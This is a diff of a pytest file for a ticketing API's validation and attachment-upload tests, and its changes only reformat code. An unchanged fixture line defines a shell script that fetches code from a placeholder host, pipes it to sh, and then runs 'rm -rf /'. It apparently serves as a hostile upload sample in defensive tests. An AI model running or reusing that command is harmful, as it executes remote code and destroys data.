@@ -22,7 +22,12 @@ from tests.personas import db_snapshot, transition
 CJK = re.compile(r"[\u3400-\u9fff\uf900-\ufaff\u3000-\u303f\uff00-\uffef]")
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
-MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 200
+MZ = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 44
+    + b"PE\x00\x00"
+    + b"\x00" * 200
+)
 SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\nrm -rf /\n"
 UNKNOWN_ID = 987654
 
@@ -62,11 +67,18 @@ def assert_refused(response, status: int, code: str, fields: list[str] | None = 
 
 
 def _ticket_body(world, **extra) -> dict:
-    return {"title": "X-3000 无法开机", "description": "上电后无显示", "organization_id": world.org_a.pk, **extra}
+    return {
+        "title": "X-3000 无法开机",
+        "description": "上电后无显示",
+        "organization_id": world.org_a.pk,
+        **extra,
+    }
 
 
 def _upload(api, ticket, name: str, content: bytes, internal: str = "false"):
-    return api.upload(f"tickets/{ticket.number}/attachments", SimpleUploadedFile(name, content), internal=internal)
+    return api.upload(
+        f"tickets/{ticket.number}/attachments", SimpleUploadedFile(name, content), internal=internal
+    )
 
 
 # --- missing and malformed fields: 422 --------------------------------------------------------------
@@ -211,7 +223,9 @@ def test_it_refuses_an_unknown_id_for_reference_data(path, body, field, world, a
 
 # --- a body that is not JSON: 400 -------------------------------------------------------------------
 
-@pytest.mark.parametrize("raw", ["{not json", "title=无法开机&description=黑屏", '{"title": "x",}', "\x00\x01"])
+@pytest.mark.parametrize(
+    "raw", ["{not json", "title=无法开机&description=黑屏", '{"title": "x",}', "\x00\x01"]
+)
 def test_it_refuses_a_body_that_is_not_json(raw, world, api_as):
     with nothing_written():
         response = api_as("alice").post("tickets", raw)
@@ -219,8 +233,17 @@ def test_it_refuses_a_body_that_is_not_json(raw, world, api_as):
     assert "JSON" in body["message"]
 
 
-@pytest.mark.parametrize("endpoint", ["patch:tickets/{n}", "post:tickets/{n}/transition", "post:tickets/{n}/replies",
-                                      "post:tickets/{n}/notes", "post:organizations", "post:contacts"])
+@pytest.mark.parametrize(
+    "endpoint",
+    [
+        "patch:tickets/{n}",
+        "post:tickets/{n}/transition",
+        "post:tickets/{n}/replies",
+        "post:tickets/{n}/notes",
+        "post:organizations",
+        "post:contacts",
+    ],
+)
 def test_every_json_endpoint_refuses_a_body_that_is_not_json(endpoint, world, api_as):
     ticket = world.ticket()
     method, path = endpoint.split(":")
@@ -373,7 +396,9 @@ def test_a_file_exactly_at_the_limit_is_still_accepted(world, api_as, settings):
     settings.ATTACHMENT_MAX_BYTES = 1024
     content = PNG + b"\x00" * (1024 - len(PNG))
     response = _upload(api_as("alice"), world.ticket(), "现场照片.png", content)
-    assert response.status_code == 201, response.content  # the limit is inclusive: the test above is not vacuous
+    assert response.status_code == 201, (
+        response.content
+    )  # the limit is inclusive: the test above is not vacuous
 
 
 @pytest.mark.parametrize(("name", "content"), [
@@ -473,7 +498,9 @@ def test_it_refuses_an_unknown_extra_field(endpoint, world, api_as):
     }
     method, path = endpoint.split(":")
     with nothing_written():
-        response = getattr(api_as("sam"), method)(path.format(n=ticket.number), {**valid[path], "colour": "红"})
+        response = getattr(api_as("sam"), method)(
+            path.format(n=ticket.number), {**valid[path], "colour": "红"}
+        )
     body = assert_refused(response, 422, "invalid", ["colour"])
     assert body["errors"][0]["type"] == "extra_forbidden"
 
